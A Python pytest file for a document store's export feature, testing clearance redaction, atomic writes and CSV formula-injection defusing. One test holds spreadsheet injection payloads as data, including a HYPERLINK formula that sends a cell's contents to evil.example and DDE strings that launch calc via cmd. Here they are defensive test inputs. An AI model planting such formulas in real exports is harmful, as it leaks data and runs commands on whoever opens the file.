"""An export holds every table as the reader may see it, is whole or is not there, and runs nothing in a spreadsheet."""

from __future__ import annotations

import csv
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import Column, Integer, String, Table, insert, select, text

from domain.errors import BusyError, InputError
from domain.label import Label
from index.store import schema as s
from service.export import export
from service.pipeline import ingest
from service.portable import DERIVED
from service.restore import restore
from service.spreadsheet import RUN, defused
from service.wiring import Home, open_home
from tests.service.moving_rows import dump, fill_empty_tables

Jsonl = Callable[..., str]
ROOT = Path(__file__).resolve().parents[2]
ROWS = (
    {"id": "o", "title": "Talks", "text": "China and Vietnam opened talks on fishing in Hanoi.", "source": "Wire",
     "published": "2014-05-03"},
    {"id": "s", "title": "Zubrowka", "text": "The envoy of Vietnam met Countess Quillfeather in the Zubrowka annex.",
     "source": "Embassy channel", "published": "2014-05-03", "label": "secret"},
)  # fmt: skip


@pytest.fixture
def filled(home: Home, jsonl: Jsonl) -> Home:
    """A home with an open and a secret document and something in every table."""
    ingest(home, [jsonl(*ROWS)])
    fill_empty_tables(home)
    return home


def cleared(home: Home, label: Label) -> Home:
    settings = replace(home.settings, reader=replace(home.settings.reader, clearance=label))
    return open_home(home.path, settings=settings)


def bytes_of(folder: Path) -> bytes:
    return b"\n".join(path.read_bytes() for path in sorted(folder.rglob("*")) if path.is_file())


@pytest.fixture
def later() -> Iterator[Table]:
    """A table that nobody has thought of."""
    made = Table("later", s.metadata, Column("id", Integer, primary_key=True), Column("word", String, nullable=False))
    yield made
    s.metadata.remove(made)


@pytest.mark.parametrize("encoding", ["jsonl", "parquet"])
def test_every_table_is_carried_also_one_that_nobody_thought_of(
    filled: Home, later: Table, tmp_path: Path, encoding: str
) -> None:
    new = open_home(tmp_path / "new")
    for home in (filled, new):
        with home.write() as c:
            c.execute(text("CREATE TABLE later (id INTEGER PRIMARY KEY, word TEXT NOT NULL)"))
    with filled.write() as c:
        c.execute(insert(later), [{"id": 7, "word": "ă"}])
    made = export(filled, tmp_path / "out", encoding=encoding)
    held = dump(filled, but=("audit",))
    for name in held.keys() - DERIVED.keys():
        assert made.files[f"{name}.{encoding}"].rows == len(held[name]) > 0, name
    restore(new, tmp_path / "out")
    with new.read() as c:
        assert c.execute(select(later)).all() == [(7, "ă")]
    new.close()


def test_the_manifest_fits_what_is_written_and_the_folder_is_its_owners_alone(filled: Home, tmp_path: Path) -> None:
    made = export(filled, tmp_path / "out")
    body = json.loads((tmp_path / "out" / "manifest.json").read_text("utf-8"))
    assert body == made.plain()
    assert body["clearance"] == "top secret"
    assert body["revision"]
    assert set(body["left_out"]) == {"changes", "vedette.toml", "briefings"}
    on_disk = {path.name for path in (tmp_path / "out").iterdir()}
    assert on_disk == {*body["files"], "manifest.json"}
    assert (tmp_path / "out").stat().st_mode & 0o077 == 0
    assert all(path.stat().st_mode & 0o077 == 0 for path in (tmp_path / "out").iterdir())
    with filled.read() as c:
        line = c.execute(select(s.audit).where(s.audit.c.action == "export")).one()
    assert line.subject == str(tmp_path / "out")
    assert json.loads(line.detail)["rows"]["documents"] == 2


def test_vectors_are_of_fixed_width_in_parquet_and_times_are_times(filled: Home, tmp_path: Path) -> None:
    export(filled, tmp_path / "out", encoding="parquet")
    schema = pq.read_schema(tmp_path / "out" / "vectors.parquet")
    assert str(schema.field("vector").type) == "fixed_size_binary[1024]"
    assert str(pq.read_schema(tmp_path / "out" / "versions.parquet").field("known").type) == "timestamp[us, tz=UTC]"
    assert pq.read_table(tmp_path / "out" / "versions.parquet")["label"].to_pylist() == ["open", "secret"]


@pytest.mark.parametrize("encoding", ["jsonl", "parquet", "csv"])
def test_nothing_above_the_clearance_leaves_in_any_file(filled: Home, tmp_path: Path, encoding: str) -> None:
    secret = {"Zubrowka", "Quillfeather", "annex", "Embassy channel"}
    with filled.read() as c:
        d, v = s.documents.c, s.versions.c
        secret |= set(c.scalars(select(d.id).join(s.versions, v.document_id == d.id).where(v.label > 0)))
    reader = cleared(filled, Label.RESTRICTED)
    made = export(reader, tmp_path / "out", encoding=encoding)
    assert made.clearance is Label.RESTRICTED
    if encoding == "parquet":
        told = repr([pq.read_table(path).to_pylist() for path in sorted((tmp_path / "out").glob("*.parquet"))])
    else:
        told = bytes_of(tmp_path / "out").decode("utf-8")
    assert "Talks" in told
    assert [word for word in secret if word in told] == []
    if encoding != "csv":
        assert {"audit", "failures", "meta", "readings", "suppressions"} <= set(made.left_out)
    reader.close()
    # A reader who may see all can confine an export, and cannot widen one.
    assert export(filled, tmp_path / "open", clearance=Label.OPEN).clearance is Label.OPEN
    assert "Zubrowka" not in bytes_of(tmp_path / "open").decode("utf-8")
    reader = cleared(filled, Label.OPEN)
    assert export(reader, tmp_path / "wide", clearance=Label.TOP_SECRET).clearance is Label.OPEN
    reader.close()


def test_labels_travel(filled: Home, tmp_path: Path) -> None:
    export(filled, tmp_path / "out")
    new = open_home(tmp_path / "new")
    restore(new, tmp_path / "out")
    assert [row[-3] for row in dump(new)["versions"]] == [row[-3] for row in dump(filled)["versions"]]
    reader = cleared(new, Label.OPEN)
    export(reader, tmp_path / "again")
    assert b"Zubrowka" not in bytes_of(tmp_path / "again")
    new.close()
    reader.close()


def test_an_export_never_overwrites(filled: Home, tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    export(filled, tmp_path / "empty")
    (tmp_path / "file").write_text("mine")
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "mine").write_text("mine")
    (tmp_path / "link").symlink_to(tmp_path / "elsewhere")
    for name in ("empty", "file", "full", "link"):
        with pytest.raises(InputError, match="never overwrites"):
            export(filled, tmp_path / name)
    # What was not written by an export is not cleared away, whatever it is called.
    (tmp_path / "out.partial").mkdir()
    (tmp_path / "out.partial" / "diary.txt").write_text("mine")
    with pytest.raises(InputError, match="no export wrote"):
        export(filled, tmp_path / "out")
    assert (tmp_path / "out.partial" / "diary.txt").read_text() == "mine"


def test_an_export_that_fails_leaves_nothing_and_two_do_not_mix(
    filled: Home, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "out.partial").mkdir()
    script = "import fcntl, os, sys, time; h = os.open(sys.argv[1], os.O_RDONLY); fcntl.flock(h, fcntl.LOCK_EX); " \
             "print('held', flush=True); time.sleep(60)"  # fmt: skip
    other = subprocess.Popen([sys.executable, "-c", script, str(tmp_path / "out.partial")], stdout=subprocess.PIPE)
    try:
        assert other.stdout is not None
        other.stdout.readline()
        with pytest.raises(BusyError):
            export(filled, tmp_path / "out")
    finally:
        other.kill()
        other.communicate()
    shutil.rmtree(tmp_path / "out.partial")
    monkeypatch.setattr("service.export._note", lambda *_: (_ for _ in ()).throw(OSError(28, "No space left")))
    with pytest.raises(OSError, match="No space"):
        export(filled, tmp_path / "out")
    assert not (tmp_path / "out").exists()
    assert not (tmp_path / "out.partial").exists()


def test_a_killed_export_is_not_taken_for_a_whole_one(demo_home: Home, tmp_path: Path) -> None:
    command = [sys.executable, "-m", "interfaces", "export", str(tmp_path / "out"), "--home", str(demo_home.path)]
    running = subprocess.Popen(command, cwd=ROOT)
    partial = tmp_path / "out.partial" / "versions.jsonl"
    until = time.monotonic() + 60
    while not partial.exists() and time.monotonic() < until:
        time.sleep(0.002)
    os.kill(running.pid, signal.SIGKILL)
    running.wait()
    assert not (tmp_path / "out").exists()
    assert partial.exists()
    with pytest.raises(InputError, match="broken off"):
        restore(open_home(tmp_path / "new"), tmp_path / "out.partial")
    export(demo_home, tmp_path / "out")
    assert not partial.parent.exists()


def test_formulas_are_defused_in_csv_and_only_there(home: Home, jsonl: Jsonl, tmp_path: Path) -> None:
    call = '=HYPERLINK("http://evil.example?"&A1,"open")'
    texts = [call, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\u200b=1+1",
             " =1+1", "＝1+1", "harmless = text"]  # fmt: skip
    ingest(home, [jsonl(*({"id": f"{i}", "title": x, "text": f"{x}\n=1+1", "source": "=cmd", "published": "2014-05-03"}
                          for i, x in enumerate(texts)))])  # fmt: skip
    export(home, tmp_path / "csv", encoding="csv")
    with (tmp_path / "csv" / "documents.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows: list[dict[str, Any]] = list(csv.DictReader(handle))
    assert len(rows) == len(texts)
    cells = [cell for row in rows for cell in row.values()]
    assert [cell for cell in cells if cell.lstrip().startswith(RUN)] == []
    assert f"'{call}" in cells
    assert "harmless = text" in cells
    export(home, tmp_path / "jsonl")
    titles = [json.loads(x)["title"] for x in (tmp_path / "jsonl" / "versions.jsonl").read_text("utf-8").splitlines()]
    assert call in titles
    for name in ("events.csv", "alerts.csv"):
        assert (tmp_path / "csv" / name).read_text("utf-8-sig").count("\n") == 1


@given(st.text())
def test_no_text_begins_a_formula(value: str) -> None:
    cell = defused(value)
    assert not cell.lstrip().startswith(RUN)
    assert defused(cell) == cell


@pytest.mark.parametrize("encoding", ["jsonl", "csv"])
def test_memory_does_not_grow_with_what_is_held(tmp_path: Path, encoding: str) -> None:
    """The most that an export of 1,600 documents holds is about what one of 400 does."""
    code = """
import sys
from pathlib import Path
from sqlalchemy import insert
from index.store import schema as s
from service.export import export
from service.wiring import open_home
from datetime import datetime, UTC
n, folder = int(sys.argv[1]), Path(sys.argv[2])
home = open_home(folder / "home")
now = datetime(2020, 1, 1, tzinfo=UTC)
with home.write() as c:
    c.execute(insert(s.sources), [{"id": 1, "name": "x", "added": now}])
    c.execute(insert(s.documents), [{"id": f"d{i}", "source_id": 1, "key": str(i), "item": "i", "kind": "report",
                                     "first_known": now} for i in range(n)])
    for i in range(n):
        c.execute(insert(s.versions), {"document_id": f"d{i}", "n": 1, "title": "t", "text": f"{i} word " * 3000,
            "content_hash": str(i), "lang": "en", "lang_confidence": 1.0, "at": now, "known": now,
            "known_basis": "fetched", "label": 0, "sentences": [], "meta": {}})
def peak():  # of this process alone: what getrusage tells begins with the peak of the one that started it
    lines = Path("/proc/self/status").read_text().splitlines()
    return next(int(line.split()[1]) for line in lines if line.startswith("VmHWM:"))
before = peak()
export(home, folder / "out", encoding=sys.argv[3])
print(peak() - before)
"""
    grown = []
    for n in (400, 1600):
        command = [sys.executable, "-c", code, str(n), str(tmp_path / str(n)), encoding]
        done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, check=True)
        grown.append(int(done.stdout))
    assert grown[1] < grown[0] + 15_000  # KiB; the texts themselves are 35 MB more
